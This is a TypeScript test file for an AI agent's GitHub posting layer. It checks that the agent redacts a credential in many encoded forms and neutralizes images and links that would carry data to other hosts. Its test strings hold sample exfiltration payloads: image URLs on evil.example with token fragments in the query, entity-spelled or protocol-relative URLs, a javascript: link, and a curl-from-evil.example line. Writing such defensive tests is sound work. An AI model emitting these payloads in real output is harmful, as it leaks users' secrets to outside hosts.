/**
 * What Recall posts that the model wrote: credentials in their encoded forms, and links and images
 * that would carry data to another host (RFC-005). The e2e test in security-posting.test.ts posts
 * through the bundled action.
 */
import { describe, expect, it } from 'vitest';
import { credentialValues, redactCredentials } from '../../src/agent/credentials.js';
import { neutralizeLinks } from '../../src/github/outbound.js';

const TOKEN = 'ghs_16C7e42F292c6912E7710c838347Ae178B4a';

describe('redaction', () => {
  it.each([
    ['as it is', TOKEN],
    ['base64', Buffer.from(TOKEN).toString('base64')],
    ['base64url', Buffer.from(`??${TOKEN}`).toString('base64url')],
    ['hex', Buffer.from(TOKEN).toString('hex')],
    ['HEX', Buffer.from(TOKEN).toString('hex').toUpperCase()],
    ['percent-encoded', encodeURIComponent(`${TOKEN}/`).replace('/', '%2F')],
    ['spaced out', [...TOKEN].join(' ')],
    ['dashed', [...TOKEN].join('-')],
    ["git's extraheader (base64 of x-access-token:<token>)", Buffer.from(`x-access-token:${TOKEN}`).toString('base64')],
    ['base64 at another offset', Buffer.from(`a${TOKEN}`).toString('base64')],
    ['base64 at a third offset', Buffer.from(`ab${TOKEN}`).toString('base64')],
  ])('takes the credential out %s', (_how, form) => {
    const out = redactCredentials(`before ${form} after`, [TOKEN]);
    expect(out).toContain('[redacted]');
    expect(out).not.toContain(TOKEN);
    // The middle of the encoded form, which only the token's bytes make, is gone.
    const middle = Math.floor(form.length / 2);
    expect(out).not.toContain(form.slice(middle - 5, middle + 5));
  });

  it('a key with zero-width characters or an HTML comment inside is found too', async () => {
    const { outbound } = await import('../../src/github/outbound.js');
    for (const hidden of [`${TOKEN.slice(0, 10)}\u200b${TOKEN.slice(10)}`, `${TOKEN.slice(0, 10)}<!-- -->${TOKEN.slice(10)}`]) {
      expect(outbound(`key: ${hidden}`, [TOKEN])).toBe('key: [redacted]');
    }
  });

  it("takes a shell's working directories for the paths they are, though PWD is named like a password", () => {
    // A local run started from a shell has PWD (the checkout): redacted, it broke every session in memory.
    const env = { PWD: '/home/ada/src/webapp', OLDPWD: '/home/ada/src', SMTP_PWD: 'mail-secret-123', DB_PASSWORD: 'db-secret-456' };
    expect(credentialValues(env).sort()).toEqual(['db-secret-456', 'mail-secret-123']);
  });

  it('leaves ordinary text alone', () => {
    expect(redactCredentials('The fix is in src/auth.ts line 12.', [TOKEN])).toBe('The fix is in src/auth.ts line 12.');
  });
});

describe('links and images in what is posted', () => {
  const gh = 'https://github.com';
  it('an image on another host becomes text: GitHub would fetch it server-side', () => {
    const out = neutralizeLinks(`Done. ![status](https://evil.example/p.png?d=${TOKEN.slice(0, 10)})`, gh);
    expect(out).toBe('Done. status (image removed: evil.example)');
  });

  it('reference images, HTML media, protocol-relative and entity-spelled URLs do not load either', () => {
    for (const attack of [
      '![x][r]\n\n[r]: https://evil.example/a.png',
      '<img src="https://evil.example/a.png">',
      '<picture><source srcset="https://evil.example/a.png"></picture>',
      '![x](//evil.example/a.png)',
      '<img src="&#104;ttps://evil.example/a.png">',
      '[click](javascript:alert(1))',
    ]) {
      const out = neutralizeLinks(attack, gh);
      expect(out, attack).not.toMatch(/!\[[^\]]*\]\((?!\s)|<img|<source|\]\(\/\/|\]: https|&#104;|\]\(javascript/i);
    }
  });

  it('links elsewhere become code, readable and not clickable; GitHub links and code blocks stay', () => {
    const text = [
      'See [the docs](https://nodejs.org/api/fs.html) and https://evil.example/?q=1 and <https://evil.example/x>.',
      'The PR: https://github.com/acme/app/pull/3 and [issue](https://github.com/acme/app/issues/1), [file](src/a.ts).',
      '![shot](https://user-images.githubusercontent.com/1/x.png)',
      '```sh\ncurl https://evil.example/install.sh\n```',
      'Run `curl https://evil.example` here.',
    ].join('\n');
    const out = neutralizeLinks(text, gh);
    expect(out).toContain('the docs (`https://nodejs.org/api/fs.html`)');
    expect(out).toContain('`https://evil.example/?q=1`');
    expect(out).toContain('`https://evil.example/x`');
    expect(out).toContain('https://github.com/acme/app/pull/3 and [issue](https://github.com/acme/app/issues/1), [file](src/a.ts)');
    expect(out).toContain('![shot](https://user-images.githubusercontent.com/1/x.png)');
    expect(out).toContain('```sh\ncurl https://evil.example/install.sh\n```');
    expect(out).toContain('Run `curl https://evil.example` here.');
  });

  it('text that only looks like code is neutralized: a span across a blank line, an escaped backtick, an entity-spelled scheme', () => {
    for (const attack of ['a `x\n\n![i](https://evil.example/p.png?d=1)\n\ny`', '\\` ![i](https://evil.example/p.png) `', '[x](https&#58;//evil.example/a)', '[x](https&colon;//evil.example/a)']) {
      const out = neutralizeLinks(attack, gh);
      expect(out, attack).not.toMatch(/!\[i\]\(https|\]\(https(&#58;|&colon;)/);
    }
  });

  it('on GitHub Enterprise, its own host keeps its links', () => {
    expect(neutralizeLinks('[x](https://ghe.acme.internal/o/r/pull/1)', 'https://ghe.acme.internal')).toBe('[x](https://ghe.acme.internal/o/r/pull/1)');
  });
});
